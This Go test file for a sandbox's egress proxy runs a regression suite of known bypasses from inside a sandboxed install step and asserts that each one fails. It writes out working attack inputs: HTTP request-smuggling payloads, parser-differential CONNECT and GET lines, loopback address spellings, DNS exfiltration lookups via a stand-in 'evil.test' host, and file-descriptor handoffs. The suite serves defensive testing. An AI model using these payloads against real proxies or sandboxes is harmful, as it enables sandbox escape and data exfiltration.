package local

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/gilf-review/gilf/executors/local/egress"
	"github.com/gilf-review/gilf/validation"
)

// The regression suite of known bypasses of a sandbox's egress proxy
// (docs/sandbox-bypasses.md lists each with its source). Every attack is
// made from inside a real sandbox, by the install step (the one step with
// a network: the proxy alone), and the suite asserts what must hold
// whatever the proxy's implementation: the forbidden destination is never
// reached nor dialed, no attack gets a tunnel or an answer from it, and
// the proxy still answers after all of them. It asserts no status code
// beyond "not 2xx": the proxy may refuse in its own words.

// bypassArg, as the test binary's first argument, makes it the attacker
// (maybeRunBypass).
const bypassArg = "__gilf-bypass"

// bypassProxyAddr is the proxy as the step sees it.
const bypassProxyAddr = egress.SandboxProxyAddr

// bypassAllowedName is an allow-listed name (port 443 only); it resolves to
// a documentation address the test's dialer never reaches.
const (
	bypassAllowedName = "registry.test"
	bypassAllowedIP   = "198.51.100.7"
)

// bypassExfilName is a name that carries data out should anyone look it
// up.
const bypassExfilName = "exfil-0123456789abcdef.evil.test"

// bypassParallel is how many connections the exhaustion attack opens at
// once: far above InstallMaxConns.
const bypassParallel = 512

// maybeRunBypass runs every attack: os.Args[2:] are the allowed
// loopback port (PA), the forbidden host TCP ports on 127.0.0.1 and ::1
// (P4, P6). It prints "name result" lines and exits.
func maybeRunBypass() {
	if len(os.Args) < 5 || os.Args[1] != bypassArg {
		return
	}
	pa, p4, p6 := os.Args[2], os.Args[3], os.Args[4]
	allowed := "127.0.0.1:" + pa
	evil := "127.0.0.1:" + p4
	say := func(name, result string) { fmt.Println(name, strings.ReplaceAll(result, "\n", " ")) }

	// Control: the allowed destination, by a tunnel and by a GET.
	say("control-connect", tunnel(allowed, "ping"))
	say("control-get", exchange(rawGet("http://"+allowed+"/control", allowed)))

	// CONNECT not enforced / to the allowed host on another port.
	say("connect-forbidden", exchange(rawConnect(evil, evil)))
	say("connect-allowed-ip-other-port", exchange(rawConnect("127.0.0.1:"+p4, "127.0.0.1:"+p4)))
	say("connect-allowed-name-other-port", exchange(rawConnect(bypassAllowedName+":8443", bypassAllowedName+":8443")))
	say("connect-allowed-name-ssh", exchange(rawConnect(bypassAllowedName+":22", bypassAllowedName+":22")))
	// Relayed and nested CONNECT: the second CONNECT rides inside the
	// allowed tunnel, or in the same write as the first.
	say("connect-relayed", tunnel(allowed, string(rawConnect(evil, evil))))
	say("connect-nested", exchange(append(rawConnect(allowed, allowed), rawConnect(evil, evil)...)))
	// Parser differentials on the request line and Host.
	say("connect-host-header-differs", exchange(rawConnect(allowed, evil)))
	say("connect-userinfo", exchange(rawConnect(allowed+"@"+evil, allowed)))
	say("connect-two-targets", exchange([]byte("CONNECT "+allowed+" "+evil+" HTTP/1.1\r\nHost: "+allowed+"\r\n\r\n")))
	say("absolute-uri-vs-host", exchange(rawGet("http://"+allowed+"/x", evil)))
	say("host-vs-absolute-uri", exchange(rawGet("http://"+evil+"/x", allowed)))
	say("origin-form-host", exchange([]byte("GET /x HTTP/1.1\r\nHost: "+evil+"\r\nConnection: close\r\n\r\n")))
	say("absolute-uri-userinfo", exchange(rawGet("http://"+allowed+"@"+evil+"/", allowed)))
	say("absolute-uri-backslash", exchange(rawGet("http://"+allowed+"\\@"+evil+"/", allowed)))
	say("absolute-uri-fragment", exchange(rawGet("http://"+evil+"#@"+allowed+"/", allowed)))
	// Request smuggling: a second request to the forbidden host hidden in
	// the body of one to the allowed host.
	smuggled := "GET http://" + evil + "/smuggled HTTP/1.1\r\nHost: " + evil + "\r\n\r\n"
	say("smuggle-cl-te", exchange([]byte("GET http://"+allowed+"/ HTTP/1.1\r\nHost: "+allowed+"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+smuggled)))
	say("smuggle-te-cl", exchange([]byte("GET http://"+allowed+"/ HTTP/1.1\r\nHost: "+allowed+"\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"+
		strconv.FormatInt(int64(len(smuggled)), 16)+"\r\n"+smuggled+"\r\n0\r\n\r\n")))
	say("smuggle-te-obfuscated", exchange([]byte("GET http://"+allowed+"/ HTTP/1.1\r\nHost: "+allowed+"\r\nTransfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n"+smuggled)))
	say("smuggle-pipelined", exchange([]byte("GET http://"+allowed+"/ HTTP/1.1\r\nHost: "+allowed+"\r\n\r\n"+smuggled)))
	// Oversized request line and header.
	say("oversized-request-line", exchange([]byte("GET http://"+evil+"/"+strings.Repeat("a", 1<<20)+" HTTP/1.1\r\nHost: "+evil+"\r\n\r\n")))
	say("oversized-header", exchange([]byte("GET http://"+evil+"/ HTTP/1.1\r\nHost: "+evil+"\r\nX-Pad: "+strings.Repeat("b", 1<<20)+"\r\n\r\n")))
	// Other spellings of the loopback (the host's own services).
	for _, sp := range []string{"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "0.0.0.0", "localhost.", "127.0.0.1.",
		"[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]"} {
		say("loopback-connect:"+sp, exchange(rawConnect(sp+":"+p4, sp+":"+p4)))
		say("loopback-get:"+sp, exchange(rawGet("http://"+sp+":"+p4+"/", sp+":"+p4)))
	}
	for _, sp := range []string{"[::1]", "[0:0:0:0:0:0:0:1]", "[::]"} {
		say("loopback6-connect:"+sp, exchange(rawConnect(sp+":"+p6, sp+":"+p6)))
	}
	// No proxy at all: a direct socket to a registry's address, the
	// allowed port on the sandbox's own loopback, plain HTTP with the
	// proxy ignored (curl --noproxy '*').
	say("direct-registry-address", dialResult("tcp", "104.16.0.35:443"))
	say("direct-registry-address-v6", dialResult("tcp", "[2606:4700::6810:23]:443"))
	say("direct-allowed-port", dialResult("tcp", allowed))
	say("noproxy-http", noProxyGet("http://"+allowed+"/"))
	// DNS from inside: the resolver, and a query straight to a public
	// resolver (exfiltration by name).
	say("dns-lookup", lookup("exfil-0123456789abcdef.registry.npmjs.org"))
	say("dns-udp-public", dialResult("udp", "8.8.8.8:53"))
	// ... and through the proxy: a name no rule allows must not even be
	// looked up (a lookup is itself the exfiltration).
	say("proxy-dns-exfil-connect", exchange(rawConnect(bypassExfilName+":443", bypassExfilName+":443")))
	say("proxy-dns-exfil-get", exchange(rawGet("http://"+bypassExfilName+"/", bypassExfilName)))
	// The proxy's unix socket used directly.
	say("unix-connect-forbidden", unixExchange(rawConnect(evil, evil)))
	for _, kind := range []string{"listener", "file", "unix", "two"} {
		say("unix-handoff-"+kind, unixHandoff(kind))
	}
	// Many parallel connections.
	say("parallel-connections", parallel(evil))
	// The proxy still answers.
	say("alive", exchange(rawConnect(evil, evil)))
	os.Exit(0)
}

func rawConnect(target, host string) []byte {
	return []byte("CONNECT " + target + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n")
}

func rawGet(uri, host string) []byte {
	return []byte("GET " + uri + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
}

// exchange sends raw to the proxy and reports the first line it answers
// ("STATUS ..."), or how the connection ended.
func exchange(raw []byte) string {
	c, err := net.DialTimeout("tcp", bypassProxyAddr, 5*time.Second)
	if err != nil {
		return "ERR " + err.Error()
	}
	defer c.Close()
	return converse(c, raw)
}

func converse(c net.Conn, raw []byte) string {
	if err := c.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		return "ERR " + err.Error()
	}
	go c.Write(raw) // a large request may not be read whole: the answer may come first
	line, err := bufio.NewReader(c).ReadString('\n')
	switch {
	case line != "":
		return "STATUS " + strings.TrimSpace(line)
	case errors.Is(err, io.EOF):
		return "CLOSED"
	default:
		return "ERR " + err.Error()
	}
}

// tunnel CONNECTs to target, sends inner through the tunnel and reports
// the proxy's answer and the first bytes back.
func tunnel(target, inner string) string {
	c, err := net.DialTimeout("tcp", bypassProxyAddr, 5*time.Second)
	if err != nil {
		return "ERR " + err.Error()
	}
	defer c.Close()
	if err := c.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
		return "ERR " + err.Error()
	}
	if _, err := c.Write(rawConnect(target, target)); err != nil {
		return "ERR " + err.Error()
	}
	r := bufio.NewReader(c)
	status, err := r.ReadString('\n')
	if err != nil {
		return "ERR " + err.Error()
	}
	for {
		l, err := r.ReadString('\n')
		if err != nil {
			return "STATUS " + strings.TrimSpace(status) + " then " + err.Error()
		}
		if l == "\r\n" {
			break
		}
	}
	if !strings.Contains(status, " 200") {
		return "STATUS " + strings.TrimSpace(status)
	}
	if _, err := c.Write([]byte(inner)); err != nil {
		return "TUNNEL write " + err.Error()
	}
	b := make([]byte, 64)
	n, _ := r.Read(b)
	return "TUNNEL " + strconv.Quote(string(b[:n]))
}

func dialResult(network, addr string) string {
	c, err := net.DialTimeout(network, addr, 3*time.Second)
	if err != nil {
		return "ERR " + err.Error()
	}
	defer c.Close()
	if network == "udp" {
		// A datagram "connects" at once: what counts is an answer.
		if err := c.SetDeadline(time.Now().Add(2 * time.Second)); err != nil {
			return "ERR " + err.Error()
		}
		if _, err := c.Write([]byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01")); err != nil {
			return "ERR " + err.Error()
		}
		if _, err := c.Read(make([]byte, 512)); err != nil {
			return "ERR " + err.Error()
		}
	}
	return "CONNECTED"
}

func noProxyGet(url string) string {
	cl := &http.Client{Transport: &http.Transport{Proxy: nil}, Timeout: 3 * time.Second}
	resp, err := cl.Get(url)
	if err != nil {
		return "ERR " + err.Error()
	}
	resp.Body.Close()
	return "CONNECTED " + resp.Status
}

func lookup(name string) string {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, name)
	if err != nil {
		return "ERR " + err.Error()
	}
	return "RESOLVED " + strings.Join(addrs, ",")
}

func unixExchange(raw []byte) string {
	c, err := net.DialTimeout("unix", SandboxSocketPath, 5*time.Second)
	if err != nil {
		return "ERR " + err.Error()
	}
	defer c.Close()
	return converse(c, raw)
}

// unixHandoff hands the proxy a descriptor that is not an accepted TCP
// connection (a listening socket, a file, a unix socket, two at once) and
// reports what came back on the unix connection.
func unixHandoff(kind string) string {
	var fds []int
	switch kind {
	case "listener":
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return "ERR " + err.Error()
		}
		defer l.Close()
		f, err := l.(*net.TCPListener).File()
		if err != nil {
			return "ERR " + err.Error()
		}
		defer f.Close()
		fds = []int{int(f.Fd())}
	case "file":
		f, err := os.Open("/etc/hostname")
		if err != nil {
			return "ERR " + err.Error()
		}
		defer f.Close()
		fds = []int{int(f.Fd())}
	case "unix", "two":
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return "ERR " + err.Error()
		}
		defer unix.Close(pair[0])
		defer unix.Close(pair[1])
		fds = []int{pair[0]}
		if kind == "two" {
			fds = pair[:]
		}
	}
	c, err := net.DialTimeout("unix", SandboxSocketPath, 5*time.Second)
	if err != nil {
		return "ERR " + err.Error()
	}
	defer c.Close()
	uc := c.(*net.UnixConn)
	if _, _, err := uc.WriteMsgUnix([]byte{0}, unix.UnixRights(fds...), nil); err != nil {
		return "ERR " + err.Error()
	}
	return converse(c, rawConnect("127.0.0.1:1", "127.0.0.1:1"))
}

// parallel opens bypassParallel connections at once, each asking for the
// forbidden destination, and counts how they ended.
func parallel(evil string) string {
	var ok, refused, failed atomic.Int64
	var wg sync.WaitGroup
	for range bypassParallel {
		wg.Go(func() {
			r := exchange(rawConnect(evil, evil))
			switch {
			case strings.Contains(r, " 200"):
				ok.Add(1)
			case strings.HasPrefix(r, "STATUS"):
				refused.Add(1)
			default:
				failed.Add(1)
			}
		})
	}
	wg.Wait()
	return fmt.Sprintf("tunnels=%d refused=%d failed=%d", ok.Load(), refused.Load(), failed.Load())
}

// recordingServer is the allowed destination: it records how many
// connections it got and answers each with a small HTTP response.
type recordingServer struct {
	l     net.Listener
	conns atomic.Int64
}

func serveRecording(t *testing.T) *recordingServer {
	t.Helper()
	s := &recordingServer{}
	s.l = serveLoopback(t, func(c net.Conn) {
		s.conns.Add(1)
		c.SetDeadline(time.Now().Add(10 * time.Second))
		buf := make([]byte, 4096)
		if _, err := c.Read(buf); err == nil {
			c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"))
		}
	})
	return s
}

// TestKnownBypasses runs the suite. Each attack's source is in
// docs/sandbox-bypasses.md, under the attack's name.
func TestKnownBypasses(t *testing.T) {
	h := listenHost(t)
	up := serveRecording(t)
	root := workRoot(t)
	pa, p4, p6 := port(up.l.Addr()), port(h.tcp4.Addr()), port(h.tcp6.Addr())
	rules, err := egress.ParseAllowList(fmt.Sprintf("127.0.0.1:%d,%s:443", pa, bypassAllowedName))
	if err != nil {
		t.Fatal(err)
	}
	rec := &recordingDial{}
	var lookups sync.Map
	resolve := func(_ context.Context, host string) ([]netip.Addr, error) {
		lookups.Store(host, true)
		if host == bypassAllowedName {
			return []netip.Addr{netip.MustParseAddr(bypassAllowedIP)}, nil
		}
		return nil, errors.New("no such host")
	}
	e := newExec(t, Options{WorkRoot: root, Egress: EgressOptions{AllowHosts: rules, Resolve: resolve, Dial: rec.dial}})
	res := runPlan(t, e, probeCheckout(t), validation.Step{
		Name:    validation.StepInstall,
		Argv:    []string{"./" + syscallProbeBin, bypassArg, strconv.Itoa(pa), strconv.Itoa(p4), strconv.Itoa(p6)},
		Network: validation.NetworkRegistry,
		Timeout: 2 * time.Minute,
	})
	s := step0(t, res)
	wantStatus(t, s, validation.StatusPassed)
	got := parseProbe(s.Output.Head + "\n" + s.Output.Tail)
	for _, k := range slices.Sorted(maps.Keys(got)) {
		t.Logf("%-44s %s", k, got[k])
	}

	// The control: the harness sees success where there is one.
	if up.conns.Load() == 0 {
		t.Errorf("the allowed destination was never reached (control-connect %q, control-get %q): the suite could not see a bypass", got["control-connect"], got["control-get"])
	}
	var attacks int
	for name, result := range got {
		// No answer, error or peer name shows a host path.
		if strings.Contains(result, root) || strings.Contains(result, os.TempDir()+"/") {
			t.Errorf("%s: %q names a host path", name, result)
		}
		if strings.HasPrefix(name, "control-") || name == "gilf" { // "gilf egress bridge: ..." on stderr
			continue
		}
		attacks++
		switch {
		case name == "parallel-connections":
			if !strings.HasPrefix(result, "tunnels=0 ") {
				t.Errorf("%s: %s, want no tunnel", name, result)
			}
		case name == "alive":
			if !strings.HasPrefix(result, "STATUS HTTP/1.") || strings.Contains(result, " 200") {
				t.Errorf("alive: %q, want the proxy still answering (and refusing)", result)
			}
		case strings.HasPrefix(name, "direct-") || name == "noproxy-http" || strings.HasPrefix(name, "dns-"):
			if !strings.HasPrefix(result, "ERR ") {
				t.Errorf("%s: %q, want it to fail: the step has no network but the proxy", name, result)
			}
		case strings.HasPrefix(result, "TUNNEL"):
			// Only inside the allowed tunnel: the relayed CONNECT's
			// answer comes from the allowed destination, never the
			// forbidden one (checked below by the listeners).
			if name != "connect-relayed" {
				t.Errorf("%s: %q: a tunnel was opened", name, result)
			}
		case strings.Contains(result, " 200 ") || strings.HasSuffix(result, " 200"):
			if !bypassMayPass(name) {
				t.Errorf("%s: %q: the proxy answered 200", name, result)
			}
		}
	}
	if attacks < 40 {
		t.Fatalf("only %d attack results: the attacker did not run them all:\n%s", attacks, s.Output.Head)
	}

	// What must hold whatever the proxy answered: the host's services
	// were never reached, and nothing but the allowed destinations was
	// ever dialed.
	h.assertUntouched(t)
	for _, d := range rec.dialed() {
		if d != up.l.Addr().String() && d != net.JoinHostPort(bypassAllowedIP, "443") {
			t.Errorf("the proxy dialed %s, which no rule allows", d)
		}
	}
	for _, name := range []string{"exfil-0123456789abcdef.registry.npmjs.org", bypassExfilName} {
		if _, ok := lookups.Load(name); ok {
			t.Errorf("the proxy resolved %s: a name no rule allows was looked up", name)
		}
	}
}

// bypassMayPass names the attacks whose request is, read either way, a
// request to the allowed destination: a 200 from it is no bypass (the
// listeners and the dial record say whether anything else was reached).
func bypassMayPass(name string) bool {
	switch name {
	case "connect-nested", "connect-host-header-differs", "absolute-uri-vs-host",
		"smuggle-cl-te", "smuggle-te-cl", "smuggle-te-obfuscated", "smuggle-pipelined":
		return true
	}
	return false
}
